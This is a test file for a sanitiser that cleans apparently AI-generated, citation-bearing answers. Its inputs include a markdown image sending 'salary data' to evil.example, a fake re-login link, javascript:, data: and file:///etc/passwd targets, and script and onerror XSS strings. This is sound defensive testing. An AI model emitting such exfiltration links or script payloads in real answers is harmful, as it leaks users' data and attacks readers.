import { describe, expect, it } from "vitest";
import { applyOutputPolicy, isInternalHref } from "./output-policy";

describe("applyOutputPolicy", () => {
  it("removes images, so nothing is fetched from anywhere (exfiltration by image URL)", () => {
    expect(applyOutputPolicy("Done [1]. ![x](https://evil.example/?q=salary%20data) ok")).toBe("Done [1]. x ok");
    expect(applyOutputPolicy('![](//evil.example/p.png "t")')).toBe("");
    expect(applyOutputPolicy("![logo](/logo.png)")).toBe("logo");
  });

  it("keeps the text of links to outside hosts and drops their targets", () => {
    expect(applyOutputPolicy("Please [log in again](https://evil.example/login) now [2].")).toBe("Please log in again now [2].");
    expect(applyOutputPolicy("[a](http://x.example/a_(b)) [b](<https://y.example/c d>)")).toBe("a b");
    expect(applyOutputPolicy("[proto-relative](//evil.example/x) [backslash](/\\evil.example)")).toBe("proto-relative backslash");
  });

  it("drops unsafe schemes whatever their case or padding", () => {
    for (const target of ["javascript:alert(1)", " JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd"]) {
      expect(applyOutputPolicy(`[click](${target})`)).toBe("click");
    }
  });

  it("keeps links to this application's own pages and citation fragments", () => {
    const text = "See [the policy](/sources/a/b?chunk=c) and [1](#cite-1).";
    expect(applyOutputPolicy(text)).toBe(text);
  });

  it("keeps citations inside link text", () => {
    expect(applyOutputPolicy("[Form MIL-2 [1]](https://evil.example)")).toBe("Form MIL-2 [1]");
  });

  it("turns autolinks into plain text and removes reference definitions and reference images", () => {
    expect(applyOutputPolicy("Go to <https://evil.example/x>.")).toBe("Go to https://evil.example/x.");
    expect(applyOutputPolicy("![pixel][p]\n\n[p]: https://evil.example/t.gif")).toBe("pixel\n\n");
  });

  it("removes raw HTML tags an answer might carry", () => {
    expect(applyOutputPolicy('Hi <img src=x onerror="alert(1)"> <script>alert(2)</script> there')).toBe("Hi  alert(2) there");
  });

  it("leaves ordinary answers, bare URLs and comparisons untouched", () => {
    const text = "- Claims under 50 euros need no receipt [1].\n- Forms are at https://intranet.example/forms and take <5 days [2].";
    expect(applyOutputPolicy(text)).toBe(text);
  });
});

describe("isInternalHref", () => {
  it("accepts site paths and fragments only", () => {
    expect(isInternalHref("/sources/x")).toBe(true);
    expect(isInternalHref("#cite-2")).toBe(true);
    for (const href of ["//evil.example", "/\\evil.example", "https://evil.example", "javascript:alert(1)", "mailto:a@b.c", "sources/x"]) {
      expect(isInternalHref(href)).toBe(false);
    }
  });
});
